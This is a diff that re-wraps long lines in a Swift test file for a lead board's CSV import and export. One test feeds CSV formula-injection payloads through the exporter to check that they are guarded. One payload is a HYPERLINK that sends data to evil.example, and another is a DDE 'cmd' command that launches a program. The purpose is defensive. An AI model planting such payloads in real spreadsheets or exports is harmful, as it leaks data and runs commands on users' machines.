@@ -32,7 +32,8 @@ import Testing
         let source = TemporaryBoard()
         let store = try awkwardBoard(source)
         let first = try exported(store, .leads)
-        #expect(first.hasPrefix("id,name,company,email,phone,source,campaign,owner,stage,value,score,created,entered,closed,lost_reason,attr."))
+        #expect(
+            first.hasPrefix("id,name,company,email,phone,source,campaign,owner,stage,value,score,created,entered,closed,lost_reason,attr."))
         #expect(first.contains("\"Met at the fair.\nSaid \"\"call me in May\"\", then\r\nleft early.\""))
         let file = source.folder + "/leads.csv"
         try first.write(toFile: file, atomically: true, encoding: .utf8)
@@ -51,7 +52,8 @@ import Testing
         try campaigns.write(toFile: source.folder + "/campaigns.csv", atomically: true, encoding: .utf8)
         let other = TemporaryBoard()
         let campaignBoard = try other.open()
-        _ = try campaignBoard.importCSV(at: source.folder + "/campaigns.csv", options: ImportOptions(kind: .campaigns), actor: "importer", now: now)
+        _ = try campaignBoard.importCSV(
+            at: source.folder + "/campaigns.csv", options: ImportOptions(kind: .campaigns), actor: "importer", now: now)
         #expect(try exported(campaignBoard, .campaigns) == campaigns)
     }
 
@@ -60,7 +62,9 @@ import Testing
     @Test func formulaCellsLeaveGuardedAndComeBackAsTheyWere() throws {
         let source = TemporaryBoard()
         let store = try source.open()
-        let cells = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "'=x", "''@y", "'plain", "-5"]
+        let cells = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1)", "+SUM(1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "'=x", "''@y", "'plain", "-5",
+        ]
         var csv = "name,company,source,campaign,attr.note\n"
         for (index, cell) in cells.enumerated() { csv += CSVWriter.line(["Lead \(index) " + cell, cell, cell, "", cell]) }
         // Written as they are (not guarded): a `'` at the start of a cell the file itself holds is data.
@@ -74,7 +78,10 @@ import Testing
         let first = String(decoding: writer.bytes, as: UTF8.self)
         #expect(first.contains(",'=HYPERLINK(\"\"http://evil.example/?\"\"&A1),") || first.contains("\"'=HYPERLINK("))
         #expect(first.contains("2,Lead 1 +SUM(1),'+SUM(1),,,'+SUM(1),,,lead,"))
-        #expect(!first.split(separator: "\n").dropFirst().contains { line in line.split(separator: ",").contains { ["=", "+", "@"].contains($0.first.map(String.init) ?? "") } })
+        #expect(
+            !first.split(separator: "\n").dropFirst().contains { line in
+                line.split(separator: ",").contains { ["=", "+", "@"].contains($0.first.map(String.init) ?? "") }
+            })
         try first.write(toFile: source.folder + "/out.csv", atomically: true, encoding: .utf8)
         let copy = TemporaryBoard()
         let target = try copy.open()
@@ -106,6 +113,9 @@ import Testing
         let lines = try exported(store, .events).split(separator: "\n").map(String.init)
         #expect(lines.first == "id,lead_id,at,actor,kind,from_stage,to_stage,detail,reverts,acted_by")
         #expect(lines.count == 8)
-        #expect(lines.suffix(2) == ["6,1,2026-11-20T12:00:00Z,lucia,moved,lead,nurture,,,", "7,1,2026-11-20T12:00:00Z,lucia,moved,nurture,lead,,,elena"])
+        #expect(
+            lines.suffix(2) == [
+                "6,1,2026-11-20T12:00:00Z,lucia,moved,lead,nurture,,,", "7,1,2026-11-20T12:00:00Z,lucia,moved,nurture,lead,,,elena",
+            ])
     }
 }
